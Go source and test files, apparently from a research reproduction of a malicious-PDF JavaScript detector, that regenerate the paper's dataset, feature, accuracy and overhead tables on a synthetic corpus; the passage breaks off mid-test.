	r := tab.Rows[0]
	if !(atoiT(t, r[1]) > atoiT(t, r[2])) {
		t.Errorf("header obf distribution inverted: %v", r)
	}
	// Encoding level: single-level dominates.
	enc := tab.Rows[3]
	if !(atoiT(t, enc[2]) > atoiT(t, enc[1])) {
		t.Errorf("encoding distribution off: %v", enc)
	}
}

func atoiT(t *testing.T, s string) int {
	t.Helper()
	n := 0
	for i := 0; i < len(s); i++ {
		if s[i] < '0' || s[i] > '9' {
			t.Fatalf("not a number: %q", s)
		}
		n = n*10 + int(s[i]-'0')
	}
	return n
}

func TestFigure7Separation(t *testing.T) {
	res := Figure7(tinyCfg)
	fig := res.Figures[0]
	var mal, ben Line
	for _, l := range fig.Lines {
		if l.Name == "malicious" {
			mal = l
		} else {
			ben = l
		}
	}
	if len(mal.Y) == 0 || len(ben.Y) == 0 {
		t.Fatal("missing lines")
	}
	if minOf(mal.Y) < 50 {
		t.Errorf("malicious min = %.1f MB, want >> benign", minOf(mal.Y))
	}
	if maxOf(ben.Y) > 25 {
		t.Errorf("benign max = %.1f MB, want small", maxOf(ben.Y))
	}
	if mean(mal.Y) < 10*mean(ben.Y) {
		t.Errorf("separation too weak: mal avg %.1f, benign avg %.1f", mean(mal.Y), mean(ben.Y))
	}
}

func TestFigure8LinearWithDrop(t *testing.T) {
	res := Figure8(tinyCfg)
	fig := res.Figures[0]
	if len(fig.Lines) != 4 {
		t.Fatalf("lines = %d", len(fig.Lines))
	}
	// The optimize-hint line must show a non-monotonic drop; the others
	// grow monotonically.
	drops := 0
	for _, line := range fig.Lines {
		for i := 1; i < len(line.Y); i++ {
			if line.Y[i] < line.Y[i-1] {
				drops++
			}
		}
	}
	if drops == 0 {
		t.Error("no optimization drop observed in any line")
	}
	if drops > 3 {
		t.Errorf("too many drops (%d); growth should be mostly linear", drops)
	}
}

func TestTableVIIIAccuracy(t *testing.T) {
	res, acc := TableVIII(tinyCfg)
	if len(res.Tables) != 1 {
		t.Fatal("no table")
	}
	if acc.BenignFlagged != 0 {
		t.Errorf("false positives = %d, want 0 (paper)", acc.BenignFlagged)
	}
	if acc.DetectionRate() < 0.85 {
		t.Errorf("detection rate = %.2f, want >= 0.85 (paper 97.3%%)", acc.DetectionRate())
	}
	if acc.MalNoise == 0 {
		t.Log("no noise samples at this tiny scale (paper: 5.8%)")
	}
}

func TestTableVIIandRender(t *testing.T) {
	res := TableVII(tinyCfg)
	out := res.Render()
	for _, want := range []string{"w1", "w2", "Threshold", "100 MB"} {
		if !strings.Contains(out, want) {
			t.Errorf("render missing %q", want)
		}
	}
}

func TestTableX(t *testing.T) {
	res := TableX(tinyCfg)
	tab := res.Tables[0]
	if len(tab.Rows) != len(tableXSizes) {
		t.Fatalf("rows = %d, want %d", len(tab.Rows), len(tableXSizes))
	}
	// Total time grows from smallest to largest size class.
	first := parseF(t, tab.Rows[0][4])
	last := parseF(t, tab.Rows[len(tab.Rows)-1][4])
	if last <= first {
		t.Errorf("timing not growing with size: %v .. %v", first, last)
	}
}

func TestTableXI(t *testing.T) {
	res := TableXI(tinyCfg)
	tab := res.Tables[0]
	if len(tab.Rows) != len(tableXSizes) {
		t.Fatalf("rows = %d", len(tab.Rows))
	}
	firstObjs := atoiT(t, strings.Fields(tab.Rows[0][1])[0])
	lastObjs := atoiT(t, strings.Fields(tab.Rows[len(tab.Rows)-1][1])[0])
	if lastObjs <= firstObjs {
		t.Errorf("object count not growing: %d .. %d", firstObjs, lastObjs)
	}
}

func parseF(t *testing.T, s string) float64 {
	t.Helper()
	var f float64
	if _, err := fmtSscan(s, &f); err != nil {
		t.Fatalf("parse %q: %v", s, err)
	}
	return f
}

func TestSecurityAnalysisAllHold(t *testing.T) {
	res := SecurityAnalysis(tinyCfg)
	tab := res.Tables[0]
	if len(tab.Rows) < 5 {
		t.Fatalf("rows = %d", len(tab.Rows))
	}
	out := tab.Render()
	if strings.Contains(out, "NOT DETECTED") || strings.Contains(out, "ATTACK SUCCEEDED") {
		t.Errorf("a defense failed:\n%s", out)
	}
}

func TestRuntimeOverheadLinearAndSmall(t *testing.T) {
	res := RuntimeOverhead(tinyCfg)
	fig := res.Figures[0]
	line := fig.Lines[0]
	if len(line.Y) < 10 {
		t.Fatalf("points = %d", len(line.Y))
	}
	if last := line.Y[len(line.Y)-1]; last > 2.0 {
		t.Errorf("20-script overhead = %.2f s, paper bound is < 2 s", last)
	}
}

// fmtSscan avoids importing fmt solely in one helper.
func fmtSscan(s string, f *float64) (int, error) {
	return fmt.Sscan(s, f)
}
