package experiments

import (
	"fmt"
	"io"
	"time"
)

// Experiment pairs an id with its runner.
type Experiment struct {
	ID  string
	Run func(cfg Config) Result
}

// All returns every experiment in paper order. Table IX consumes Table
// VIII's accuracy, so RunAll wires them together; the standalone entry here
// re-runs Table VIII internally when invoked alone.
func All() []Experiment {
	return []Experiment{
		{"table-v", TableV},
		{"figure-6", Figure6},
		{"table-vi", TableVI},
		{"figure-7", Figure7},
		{"figure-8", Figure8},
		{"table-vii", TableVII},
		{"table-viii", func(cfg Config) Result { r, _ := TableVIII(cfg); return r }},
		{"table-ix", func(cfg Config) Result {
			_, acc := TableVIII(cfg)
			return TableIX(cfg, acc)
		}},
		{"table-x", TableX},
		{"table-xi", TableXI},
		{"runtime-overhead", RuntimeOverhead},
		{"security-analysis", SecurityAnalysis},
		{"ablation-features", AblationFeatures},
		{"ablation-context-memory", AblationContextMemory},
	}
}

// RunAll executes every experiment, streaming rendered output to w, and
// returns all results keyed by id.
func RunAll(cfg Config, w io.Writer) map[string]Result {
	out := make(map[string]Result)
	var acc Accuracy
	haveAcc := false
	for _, exp := range All() {
		start := time.Now()
		var res Result
		switch exp.ID {
		case "table-viii":
			res, acc = TableVIII(cfg)
			haveAcc = true
		case "table-ix":
			if !haveAcc {
				_, acc = TableVIII(cfg)
			}
			res = TableIX(cfg, acc)
		default:
			res = exp.Run(cfg)
		}
		out[exp.ID] = res
		if w != nil {
			fmt.Fprintf(w, "%s\n[%s finished in %.1fs]\n\n", res.Render(), exp.ID, time.Since(start).Seconds())
		}
	}
	return out
}
