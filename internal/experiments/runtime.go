package experiments

import (
	"context"
	"fmt"
	"sort"
	"time"

	"pdfshield/internal/corpus"
	"pdfshield/internal/pdf"
	"pdfshield/internal/pipeline"
	"pdfshield/internal/reader"
)

// Figure7 regenerates the JS-context memory consumption comparison: 30
// benign and 30 malicious (working-exploit) documents, each opened in a
// fresh reader, measuring Javascript-context memory consumption.
func Figure7(cfg Config) Result {
	g := corpus.NewGenerator(cfg.seed() + 7)
	const n = 30 // the paper's own sample size

	benign := g.BenignWithJS(n)
	var malicious []corpus.Sample
	for len(malicious) < n {
		s := g.Malicious()
		if s.Outcome == corpus.OutcomeExploit || s.Outcome == corpus.OutcomeCrash {
			malicious = append(malicious, s)
		}
	}

	measure := func(samples []corpus.Sample, version float64) []float64 {
		var out []float64
		for _, s := range samples {
			proc := reader.NewProcess(reader.Config{ViewerVersion: version})
			res, err := proc.Open(s.ID, s.Raw, reader.OpenOptions{})
			proc.Close()
			if err != nil {
				continue
			}
			out = append(out, res.JSHeapMB)
		}
		sort.Float64s(out)
		return out
	}
	benignMem := measure(benign, 9.0)
	malMem := measure(malicious, 8.0)

	fig := Series{
		ID:     "Figure 7",
		Title:  "Memory Consumption of Malicious and Benign Javascripts (JS-context)",
		XLabel: "sample index (sorted)",
		YLabel: "memory (MB)",
		Lines: []Line{
			indexLine("malicious", malMem),
			indexLine("benign", benignMem),
		},
	}
	fig.Notes = append(fig.Notes,
		fmt.Sprintf("malicious: avg %.1f MB, min %.1f, max %.1f (paper: avg 336.4, min 103, max >1700)",
			mean(malMem), minOf(malMem), maxOf(malMem)),
		fmt.Sprintf("benign: avg %.2f MB, max %.1f (paper: avg 7.1, max 21)", mean(benignMem), maxOf(benignMem)),
	)
	return Result{Figures: []Series{fig}}
}

func indexLine(name string, ys []float64) Line {
	line := Line{Name: name}
	for i, y := range ys {
		line.X = append(line.X, float64(i+1))
		line.Y = append(line.Y, y)
	}
	return line
}

func mean(xs []float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	s := 0.0
	for _, x := range xs {
		s += x
	}
	return s / float64(len(xs))
}

func minOf(xs []float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	m := xs[0]
	for _, x := range xs {
		if x < m {
			m = x
		}
	}
	return m
}

func maxOf(xs []float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	m := xs[0]
	for _, x := range xs {
		if x > m {
			m = x
		}
	}
	return m
}

// Figure8 regenerates the context-free measurement: reader memory while
// opening 1..20 copies of four documents of different sizes; one document
// triggers the reader's memory optimization.
func Figure8(cfg Config) Result {
	g := corpus.NewGenerator(cfg.seed() + 8)
	docs := []struct {
		name     string
		sizeMB   int
		optimize bool
	}{
		{"[3] 17MB report", 17, true},
		{"[5] 0.5MB paper", 0, false},
		{"[20] 8MB reference", 8, false},
		{"[29] 28MB spec", 28, false},
	}
	const copies = 20

	var lines []Line
	for _, d := range docs {
		size := d.sizeMB << 20
		if size == 0 {
			size = 512 << 10
		}
		sample := g.Sized(size, false)
		proc := reader.NewProcess(reader.Config{ViewerVersion: 9.0})
		line := Line{Name: d.name}
		for c := 1; c <= copies; c++ {
			res, err := proc.Open(fmt.Sprintf("%s-copy%d", d.name, c), sample.Raw, reader.OpenOptions{OptimizeHint: d.optimize})
			if err != nil {
				break
			}
			line.X = append(line.X, float64(c))
			line.Y = append(line.Y, res.MemAfterMB)
		}
		proc.Close()
		lines = append(lines, line)
	}
	fig := Series{
		ID:     "Figure 8",
		Title:  "Memory Consumption of PDF Reader When Opening Many Documents (context-free)",
		XLabel: "# of open copies",
		YLabel: "process memory (MB)",
		Lines:  lines,
		Notes: []string{
			"linear growth per copy; the optimization-hint document drops mid-way and climbs again (paper observed this for [3] at copy 15)",
			"a fixed context-free memory threshold cannot separate this from a heap spray",
		},
	}
	return Result{Figures: []Series{fig}}
}

// TableVIII regenerates the detection-accuracy evaluation: the full
// instrument-open-detect pipeline over benign-with-JS and malicious
// corpora.
func TableVIII(cfg Config) (Result, Accuracy) {
	g := corpus.NewGenerator(cfg.seed() + 88)
	nBenign := cfg.scaled(994, 40)
	nMal := cfg.scaled(1000, 40)

	var acc Accuracy

	// Benign pass on Acrobat 9.0.
	sysB, err := pipeline.NewSystem(pipeline.Options{ViewerVersion: 9.0, Seed: cfg.seed() + 1})
	if err != nil {
		return Result{}, acc
	}
	for _, v := range batchVerdicts(sysB, g.BenignWithJS(nBenign), cfg.workers()) {
		acc.BenignTotal++
		if v.Malicious {
			acc.BenignFlagged++
		}
	}
	_ = sysB.Close()

	// Malicious pass on Acrobat 8.0 (the version most samples target).
	sysM, err := pipeline.NewSystem(pipeline.Options{ViewerVersion: 8.0, Seed: cfg.seed() + 2})
	if err != nil {
		return Result{}, acc
	}
	for _, v := range batchVerdicts(sysM, g.MaliciousBatch(nMal), cfg.workers()) {
		acc.MalTotal++
		switch {
		case v.Malicious:
			acc.MalDetected++
		case isNoise(v):
			acc.MalNoise++
		default:
			acc.MalMissed++
		}
	}
	_ = sysM.Close()

	table := Table{
		ID:      "Table VIII",
		Title:   "Detection Results",
		Headers: []string{"Category", "Detected Malicious", "Detected Benign", "Noise", "Total"},
		Rows: [][]string{
			{"Benign Samples", itoa(acc.BenignFlagged), itoa(acc.BenignTotal - acc.BenignFlagged), "0", itoa(acc.BenignTotal)},
			{"Malicious Samples", itoa(acc.MalDetected), itoa(acc.MalMissed), itoa(acc.MalNoise), itoa(acc.MalTotal)},
		},
		Notes: []string{
			fmt.Sprintf("false positives: %d (paper: 0)", acc.BenignFlagged),
			fmt.Sprintf("detection rate on working samples: %.1f%% (paper: 97.3%% = 917/942)", 100*acc.DetectionRate()),
			fmt.Sprintf("noise (samples that did nothing): %.1f%% (paper: 5.8%% = 58/1000)", 100*float64(acc.MalNoise)/float64(maxInt(acc.MalTotal, 1))),
		},
	}
	return Result{Tables: []Table{table}}, acc
}

// batchVerdicts pushes a corpus slice through the worker-pool batch engine
// and returns the successful verdicts in input order (failed documents are
// skipped, matching the old per-document `continue` behaviour).
func batchVerdicts(sys *pipeline.System, samples []corpus.Sample, workers int) []*pipeline.Verdict {
	docs := make([]pipeline.BatchDoc, len(samples))
	for i, s := range samples {
		docs[i] = pipeline.BatchDoc{ID: s.ID, Raw: s.Raw}
	}
	res := sys.ProcessBatchContext(context.Background(), docs, pipeline.BatchOptions{Workers: workers})
	out := make([]*pipeline.Verdict, 0, len(samples))
	for _, v := range res.Verdicts {
		if v != nil {
			out = append(out, v)
		}
	}
	return out
}

// isNoise reports the paper's "did nothing when opened" condition.
func isNoise(v *pipeline.Verdict) bool {
	if v.Crashed || v.Malicious || v.Open == nil {
		return false
	}
	for _, e := range v.Open.Exploits {
		if e.Stage == reader.StageShellcode || e.Stage == reader.StageCrash {
			return false
		}
	}
	return v.Open.JSHeapMB < 100
}

// Accuracy aggregates Table VIII counts for reuse by Table IX.
type Accuracy struct {
	BenignTotal, BenignFlagged                 int
	MalTotal, MalDetected, MalMissed, MalNoise int
}

// DetectionRate is TP over working (non-noise) malicious samples.
func (a Accuracy) DetectionRate() float64 {
	working := a.MalTotal - a.MalNoise
	if working <= 0 {
		return 0
	}
	return float64(a.MalDetected) / float64(working)
}

// FPRate is FP over benign samples.
func (a Accuracy) FPRate() float64 {
	if a.BenignTotal == 0 {
		return 0
	}
	return float64(a.BenignFlagged) / float64(a.BenignTotal)
}

func maxInt(a, b int) int {
	if a > b {
		return a
	}
	return b
}

// RuntimeOverhead regenerates the §V-D2 measurement: execution-time
// overhead of the context monitoring code for documents with 1..20
// separately invoked scripts.
func RuntimeOverhead(cfg Config) Result {
	const maxScripts = 20
	script := `var acc = 0; for (var i = 0; i < 2000; i++) acc += i; acc;`

	buildDoc := func(k int) []byte {
		d := pdf.NewDocument()
		var refs []pdf.Ref
		for i := 0; i < k; i++ {
			jsRef := d.Add(pdf.String{Value: []byte(script)})
			refs = append(refs, d.Add(pdf.Dict{"S": pdf.Name("JavaScript"), "JS": jsRef}))
		}
		catalog := pdf.Dict{"Type": pdf.Name("Catalog"), "OpenAction": refs[0]}
		if k > 1 {
			var nameArr pdf.Array
			for i, r := range refs[1:] {
				nameArr = append(nameArr, pdf.String{Value: []byte(fmt.Sprintf("s%d", i))}, r)
			}
			tree := d.Add(pdf.Dict{"Names": nameArr})
			catalog["Names"] = d.Add(pdf.Dict{"JavaScript": tree})
		}
		d.Trailer["Root"] = d.Add(catalog)
		raw, err := pdf.Write(d, pdf.WriteOptions{})
		if err != nil {
			panic(err)
		}
		return raw
	}

	timeOpen := func(raw []byte, instrumented bool) (time.Duration, error) {
		if !instrumented {
			proc := reader.NewProcess(reader.Config{ViewerVersion: 9.0})
			defer proc.Close()
			start := time.Now()
			_, err := proc.Open("raw", raw, reader.OpenOptions{})
			return time.Since(start), err
		}
		sys, err := pipeline.NewSystem(pipeline.Options{ViewerVersion: 9.0, Seed: cfg.seed() + 3})
		if err != nil {
			return 0, err
		}
		defer func() { _ = sys.Close() }()
		res, err := sys.Instrumenter.InstrumentBytes("inst", raw)
		if err != nil {
			return 0, err
		}
		sess, err := sys.NewSession()
		if err != nil {
			return 0, err
		}
		defer sess.Close()
		start := time.Now()
		_, err = sess.Open(res, reader.OpenOptions{})
		return time.Since(start), err
	}

	line := Line{Name: "slowdown"}
	var oneScript float64
	for k := 1; k <= maxScripts; k++ {
		raw := buildDoc(k)
		base, err1 := timeOpen(raw, false)
		inst, err2 := timeOpen(raw, true)
		if err1 != nil || err2 != nil {
			continue
		}
		delta := (inst - base).Seconds()
		if delta < 0 {
			delta = 0
		}
		if k == 1 {
			oneScript = delta
		}
		line.X = append(line.X, float64(k))
		line.Y = append(line.Y, delta)
	}
	fig := Series{
		ID:     "§V-D2",
		Title:  "Runtime Overhead of Context Monitoring Code",
		XLabel: "# of instrumented scripts",
		YLabel: "added seconds",
		Lines:  []Line{line},
		Notes: []string{
			fmt.Sprintf("single-script slowdown: %.4f s (paper: 0.093 s)", oneScript),
			fmt.Sprintf("20-script slowdown: %.3f s (paper: < 2 s)", lastOf(line.Y)),
			"growth is approximately linear in the number of instrumented scripts",
		},
	}
	return Result{Figures: []Series{fig}}
}

func lastOf(xs []float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	return xs[len(xs)-1]
}
