package experiments

import (
	"fmt"
	"sort"

	"pdfshield/internal/corpus"
	"pdfshield/internal/instrument"
)

// TableV regenerates the dataset summary (Table V), generating the corpus
// at the configured scale.
func TableV(cfg Config) Result {
	g := corpus.NewGenerator(cfg.seed())
	nBenign := cfg.scaled(18623, 200)
	nMal := cfg.scaled(7370, 80)

	benign := g.BenignBatch(nBenign)
	malicious := g.MaliciousBatch(nMal)

	benignBytes, benignJS := 0, 0
	for _, s := range benign {
		benignBytes += len(s.Raw)
		if s.HasJS {
			benignJS++
		}
	}
	malBytes := 0
	for _, s := range malicious {
		malBytes += len(s.Raw)
	}
	mb := func(n int) string { return fmt.Sprintf("%.1f MB", float64(n)/(1<<20)) }

	return Result{Tables: []Table{{
		ID:      "Table V",
		Title:   "Dataset Used for Evaluation (synthetic, scaled)",
		Headers: []string{"Category", "# of Samples", "# with Javascript", "Size"},
		Rows: [][]string{
			{"Known Benign", itoa(len(benign)), itoa(benignJS), mb(benignBytes)},
			{"Known Malicious", itoa(len(malicious)), itoa(len(malicious)), mb(malBytes)},
			{"Total", itoa(len(benign) + len(malicious)), itoa(benignJS + len(malicious)), mb(benignBytes + malBytes)},
		},
		Notes: []string{
			fmt.Sprintf("paper: 18623 benign (994 with JS, 11.84 GB), 7370 malicious (172 MB); scale=%.2f", cfg.scale()),
		},
	}}}
}

// Figure6 regenerates the CDF of the Javascript-chain object ratio for
// benign and malicious documents.
func Figure6(cfg Config) Result {
	g := corpus.NewGenerator(cfg.seed() + 6)
	nBenign := cfg.scaled(994, 60)
	nMal := cfg.scaled(1000, 60)

	benignRatios := ratiosOf(g.BenignWithJS(nBenign), cfg.workers())
	malRatios := ratiosOf(g.MaliciousBatch(nMal), cfg.workers())

	fig := Series{
		ID:     "Figure 6",
		Title:  "Ratio of PDF Objects on Javascript Chain (CDF)",
		XLabel: "ratio",
		YLabel: "CDF",
		Lines: []Line{
			cdfLine("malicious", malRatios),
			cdfLine("benign", benignRatios),
		},
	}
	fig.Notes = append(fig.Notes,
		fmt.Sprintf("malicious with ratio >= 0.2: %.1f%% (paper ~95%%)", 100*fracAtLeast(malRatios, 0.2)),
		fmt.Sprintf("benign with ratio < 0.2: %.1f%% (paper ~90%%)", 100*(1-fracAtLeast(benignRatios, 0.2))),
		fmt.Sprintf("malicious with ratio == 1: %d (paper found 64)", countEq(malRatios, 1)),
	)
	return Result{Figures: []Series{fig}}
}

func ratiosOf(samples []corpus.Sample, workers int) []float64 {
	vals := make([]float64, len(samples))
	ok := make([]bool, len(samples))
	parallelEach(len(samples), workers, func(i int) {
		_, chains, _, err := instrument.Analyze(samples[i].Raw)
		if err != nil {
			return
		}
		vals[i], ok[i] = chains.Ratio(), true
	})
	out := make([]float64, 0, len(samples))
	for i := range vals {
		if ok[i] {
			out = append(out, vals[i])
		}
	}
	sort.Float64s(out)
	return out
}

func cdfLine(name string, sorted []float64) Line {
	line := Line{Name: name}
	n := len(sorted)
	for i, v := range sorted {
		line.X = append(line.X, v)
		line.Y = append(line.Y, float64(i+1)/float64(n))
	}
	return line
}

func fracAtLeast(sorted []float64, threshold float64) float64 {
	if len(sorted) == 0 {
		return 0
	}
	count := 0
	for _, v := range sorted {
		if v >= threshold {
			count++
		}
	}
	return float64(count) / float64(len(sorted))
}

func countEq(sorted []float64, v float64) int {
	count := 0
	for _, x := range sorted {
		if x == v {
			count++
		}
	}
	return count
}

// TableVI regenerates the static feature statistics of malicious documents.
func TableVI(cfg Config) Result {
	g := corpus.NewGenerator(cfg.seed() + 66)
	n := cfg.scaled(7370, 300)

	headerObf := map[int]int{}
	hexCode := map[int]int{}
	emptyObjs := map[int]int{}
	encLevels := map[int]int{}
	for i := 0; i < n; i++ {
		s := g.Malicious()
		feats, _, _, err := instrument.Analyze(s.Raw)
		if err != nil {
			continue
		}
		headerObf[boolInt(feats.HeaderObfuscated)]++
		hexCode[boolInt(feats.HexCodeCount > 0)]++
		emptyObjs[feats.EmptyObjects]++
		encLevels[feats.EncodingLevels]++
	}
	row := func(name string, m map[int]int) []string {
		cells := []string{name}
		for _, v := range []int{0, 1, 2, 3, 6} {
			cells = append(cells, itoa(m[v]))
		}
		return cells
	}
	return Result{Tables: []Table{{
		ID:      "Table VI",
		Title:   fmt.Sprintf("Statistics of Static Features of %d Malicious Documents", n),
		Headers: []string{"Feature \\ Value", "0/False", "1/True", "2", "3", "6"},
		Rows: [][]string{
			row("Header Obfuscation", headerObf),
			row("Hex Code", hexCode),
			row("Empty Objects", emptyObjs),
			row("Encoding Level", encLevels),
		},
		Notes: []string{
			"paper (7370 samples): header obf 6792/578; hex 6827/543; empty objects 7357/5/4/3/1; encoding 233/7065/40/31/0",
		},
	}}}
}

func boolInt(b bool) int {
	if b {
		return 1
	}
	return 0
}

// TableVII renders the parameter configuration (constants of the system).
func TableVII(cfg Config) Result {
	return Result{Tables: []Table{{
		ID:      "Table VII",
		Title:   "Parameter Configurations",
		Headers: []string{"Parameter", "Value"},
		Rows: [][]string{
			{"F1", fmt.Sprintf("if ratio >= %.1f, F1 = 1; else F1 = 0", instrument.RatioThreshold)},
			{"F4", "if # of empty objects >= 1, F4 = 1; else F4 = 0"},
			{"F5", fmt.Sprintf("if encoding level >= %d, F5 = 1; else F5 = 0", instrument.EncodingLevelThreshold)},
			{"F8", "if mem consumption >= 100 MB, F8 = 1; else F8 = 0"},
			{"w1", "1"},
			{"w2", "9"},
			{"Threshold", "10"},
		},
		Notes: []string{"identical to the paper's Table VII; enforced by internal/detect defaults"},
	}}}
}

func itoa(n int) string { return fmt.Sprintf("%d", n) }
