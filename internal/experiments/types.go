// Package experiments regenerates every table and figure of the paper's
// evaluation (§V) on the synthetic corpus: feature validation (Figure 6,
// Table VI, Figure 7, Figure 8), detection accuracy (Tables VII, VIII, IX)
// and system performance (Tables X, XI, the §V-D2 runtime overhead), plus
// the §IV security analysis.
package experiments

import (
	"fmt"
	"strings"
	"sync"
)

// Config tunes experiment scale.
type Config struct {
	// Scale multiplies the paper's sample counts (1.0 = 994 benign-with-JS
	// and 1000 malicious in Table VIII). Default 0.1.
	Scale float64
	// Seed drives corpus generation and randomized instrumentation.
	Seed int64
	// Workers is the worker-pool width for the corpus passes that go
	// through the full pipeline (Table V analysis, Table VIII, Table IX
	// mimicry, ablations). 0 or 1 means serial; verdicts are identical
	// either way, only wall-clock changes.
	Workers int
}

func (c Config) scale() float64 {
	if c.Scale <= 0 {
		return 0.1
	}
	return c.Scale
}

func (c Config) workers() int {
	if c.Workers <= 0 {
		return 1
	}
	return c.Workers
}

func (c Config) seed() int64 {
	if c.Seed == 0 {
		return 20140623 // DSN'14 week
	}
	return c.Seed
}

// parallelEach runs fn(0..n-1) over a worker pool; workers <= 1 runs
// inline. Callers write disjoint result slots indexed by i, so outputs stay
// in input order regardless of scheduling.
func parallelEach(n, workers int, fn func(i int)) {
	if workers > n {
		workers = n
	}
	if workers <= 1 {
		for i := 0; i < n; i++ {
			fn(i)
		}
		return
	}
	jobs := make(chan int)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range jobs {
				fn(i)
			}
		}()
	}
	for i := 0; i < n; i++ {
		jobs <- i
	}
	close(jobs)
	wg.Wait()
}

// scaled returns n scaled with a floor.
func (c Config) scaled(n, floor int) int {
	v := int(float64(n) * c.scale())
	if v < floor {
		return floor
	}
	return v
}

// Table is a regenerated paper table.
type Table struct {
	ID      string
	Title   string
	Headers []string
	Rows    [][]string
	Notes   []string
}

// Render formats the table with aligned columns.
func (t Table) Render() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "== %s: %s ==\n", t.ID, t.Title)
	widths := make([]int, len(t.Headers))
	for i, h := range t.Headers {
		widths[i] = len(h)
	}
	for _, row := range t.Rows {
		for i, cell := range row {
			if i < len(widths) && len(cell) > widths[i] {
				widths[i] = len(cell)
			}
		}
	}
	writeRow := func(cells []string) {
		for i, cell := range cells {
			if i > 0 {
				sb.WriteString("  ")
			}
			sb.WriteString(cell)
			if i < len(widths) {
				sb.WriteString(strings.Repeat(" ", widths[i]-len(cell)))
			}
		}
		sb.WriteByte('\n')
	}
	writeRow(t.Headers)
	total := 0
	for _, w := range widths {
		total += w + 2
	}
	sb.WriteString(strings.Repeat("-", total))
	sb.WriteByte('\n')
	for _, row := range t.Rows {
		writeRow(row)
	}
	for _, n := range t.Notes {
		fmt.Fprintf(&sb, "note: %s\n", n)
	}
	return sb.String()
}

// Line is one series of points.
type Line struct {
	Name string
	X    []float64
	Y    []float64
}

// Series is a regenerated paper figure.
type Series struct {
	ID     string
	Title  string
	XLabel string
	YLabel string
	Lines  []Line
	Notes  []string
}

// Render formats the series as point tables plus an ASCII plot.
func (s Series) Render() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "== %s: %s ==\n", s.ID, s.Title)
	fmt.Fprintf(&sb, "x=%s, y=%s\n", s.XLabel, s.YLabel)
	for _, line := range s.Lines {
		fmt.Fprintf(&sb, "-- %s (%d points)\n", line.Name, len(line.X))
		step := 1
		if len(line.X) > 24 {
			step = len(line.X) / 24
		}
		for i := 0; i < len(line.X); i += step {
			fmt.Fprintf(&sb, "   %10.3f  %10.3f\n", line.X[i], line.Y[i])
		}
	}
	sb.WriteString(asciiPlot(s))
	for _, n := range s.Notes {
		fmt.Fprintf(&sb, "note: %s\n", n)
	}
	return sb.String()
}

const (
	plotW = 64
	plotH = 16
)

// asciiPlot draws a rough multi-line plot.
func asciiPlot(s Series) string {
	minX, maxX, minY, maxY := rangeOf(s)
	if maxX <= minX || maxY <= minY {
		return ""
	}
	grid := make([][]byte, plotH)
	for i := range grid {
		grid[i] = []byte(strings.Repeat(" ", plotW))
	}
	marks := []byte{'*', 'o', '+', 'x', '#', '@'}
	for li, line := range s.Lines {
		mark := marks[li%len(marks)]
		for i := range line.X {
			px := int((line.X[i] - minX) / (maxX - minX) * float64(plotW-1))
			py := int((line.Y[i] - minY) / (maxY - minY) * float64(plotH-1))
			row := plotH - 1 - py
			if row >= 0 && row < plotH && px >= 0 && px < plotW {
				grid[row][px] = mark
			}
		}
	}
	var sb strings.Builder
	fmt.Fprintf(&sb, "%10.1f +%s\n", maxY, strings.Repeat("-", plotW))
	for _, row := range grid {
		fmt.Fprintf(&sb, "%10s |%s\n", "", string(row))
	}
	fmt.Fprintf(&sb, "%10.1f +%s\n", minY, strings.Repeat("-", plotW))
	fmt.Fprintf(&sb, "%10s  %-10.1f%s%10.1f\n", "", minX, strings.Repeat(" ", plotW-20), maxX)
	legend := make([]string, 0, len(s.Lines))
	for li, line := range s.Lines {
		legend = append(legend, fmt.Sprintf("%c=%s", marks[li%len(marks)], line.Name))
	}
	sb.WriteString("           " + strings.Join(legend, "  ") + "\n")
	return sb.String()
}

func rangeOf(s Series) (minX, maxX, minY, maxY float64) {
	first := true
	for _, line := range s.Lines {
		for i := range line.X {
			if first {
				minX, maxX, minY, maxY = line.X[i], line.X[i], line.Y[i], line.Y[i]
				first = false
				continue
			}
			if line.X[i] < minX {
				minX = line.X[i]
			}
			if line.X[i] > maxX {
				maxX = line.X[i]
			}
			if line.Y[i] < minY {
				minY = line.Y[i]
			}
			if line.Y[i] > maxY {
				maxY = line.Y[i]
			}
		}
	}
	return minX, maxX, minY, maxY
}

// Result is the output of one experiment: a table, a figure, or both.
type Result struct {
	Tables  []Table
	Figures []Series
}

// Render formats everything.
func (r Result) Render() string {
	var sb strings.Builder
	for _, t := range r.Tables {
		sb.WriteString(t.Render())
		sb.WriteByte('\n')
	}
	for _, f := range r.Figures {
		sb.WriteString(f.Render())
		sb.WriteByte('\n')
	}
	return sb.String()
}
