package hook

import (
	"errors"
	"net"
	"testing"
	"time"

	"pdfshield/internal/obs"
)

// acceptStep is one scripted Accept outcome of a fakeListener.
type acceptStep struct {
	conn net.Conn
	err  error
}

// fakeListener feeds acceptLoop a scripted sequence of Accept results,
// then permanently reports net.ErrClosed.
type fakeListener struct {
	steps chan acceptStep
}

func (l *fakeListener) Accept() (net.Conn, error) {
	s, ok := <-l.steps
	if !ok {
		return nil, net.ErrClosed
	}
	return s.conn, s.err
}
func (l *fakeListener) Close() error   { return nil }
func (l *fakeListener) Addr() net.Addr { return &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1)} }

// errTransient stands in for EMFILE/ECONNABORTED-class Accept failures.
var errTransient = errors.New("accept: too many open files")

// TestAcceptLoopRetriesTransientErrors is the regression test for the
// give-up-on-first-error bug: acceptLoop used to return on *any* Accept
// error, leaving the listener bound but dead — every later reader process
// unable to deliver hook events while the detector looked healthy. The
// loop must ride out transient failures (counting them) and still accept
// the connection that follows.
func TestAcceptLoopRetriesTransientErrors(t *testing.T) {
	reg := obs.NewRegistry()
	s := NewServer(func(ev Event) Decision { return Decision{Action: ActionAllow} })
	s.Obs = reg

	ln := &fakeListener{steps: make(chan acceptStep, 8)}
	ln.steps <- acceptStep{err: errTransient}
	ln.steps <- acceptStep{err: errTransient}
	client, server := net.Pipe()
	defer client.Close()
	ln.steps <- acceptStep{conn: server}

	done := make(chan struct{})
	go func() {
		s.acceptLoop(ln)
		close(done)
	}()

	// The loop must register the post-error connection, proving it
	// survived both transient failures.
	deadline := time.Now().Add(5 * time.Second)
	for {
		s.mu.Lock()
		n := len(s.conns)
		s.mu.Unlock()
		if n == 1 {
			break
		}
		if time.Now().After(deadline) {
